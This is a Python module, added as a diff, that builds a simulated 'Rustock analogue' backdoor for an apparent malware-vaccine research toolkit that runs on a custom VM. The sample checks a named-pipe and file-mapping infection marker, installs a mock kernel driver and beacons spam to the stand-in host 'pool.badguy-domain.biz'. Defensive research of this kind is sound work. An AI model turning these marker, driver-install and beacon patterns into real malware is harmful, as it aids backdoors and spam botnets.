@@ -1,0 +1,55 @@
+"""Rustock analogue (rootkit-backed spam backdoor).
+
+Exercises the named-pipe and kernel-object marker vectors end to end (the
+paper's Figure 2 traces a pipe name ``\\\\.PIPE\\_AVIRA_2109``):
+
+* infection marker: named pipe ``\\\\.\\pipe\\spoolsrv16`` — the resident
+  component serves it; a fresh dropper probes it with ``WaitNamedPipeA`` and
+  exits when present (pipe vaccine = pre-create the pipe file);
+* secondary marker: a named file mapping used as a cross-process flag;
+* payload: kernel driver + spam beacons.
+
+Not part of the paper's Table-VII family set, so it lives outside
+``FAMILIES`` (variants benches stay aligned with the paper's six).
+"""
+
+from __future__ import annotations
+
+from ..builder import AsmBuilder, frag_beacon, frag_exit, frag_install_driver
+
+FAMILY = "rustock"
+CATEGORY = "backdoor"
+
+PIPE_NAME = "\\\\.\\pipe\\spoolsrv16"
+MAPPING_NAME = "RstkShm_4"
+
+
+def build(variant: int = 0) -> "Program":
+    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)
+    pipe = b.string(PIPE_NAME)
+    mapping = b.string(MAPPING_NAME)
+
+    infected = b.unique("infected")
+
+    b.comment("resident-component probe via named pipe")
+    b.call("WaitNamedPipeA", pipe, "100")
+    b.emit("    test eax, eax", f"    jnz {infected}")
+
+    b.comment("secondary cross-process flag (named section)")
+    b.call("OpenFileMappingA", "0xF001F", "0", mapping)
+    b.emit("    test eax, eax", f"    jnz {infected}")
+
+    # Become the resident component: publish both markers.
+    b.call("CreateNamedPipeA", pipe, "3", "0", "1")
+    b.call("CreateFileMappingA", "0", "0", "4", "0", "0", mapping)
+
+    frag_install_driver(b, "rstkdrv", "%system32%\\drivers\\rstk16.sys")
+    frag_beacon(b, "pool.badguy-domain.biz", rounds=5, payload="SPAM")
+    b.emit("    halt")
+
+    b.label(infected)
+    frag_exit(b, 0)
+    return b.build(family=FAMILY, category=CATEGORY, variant=variant)
+
+
+from ...vm.program import Program  # noqa: E402
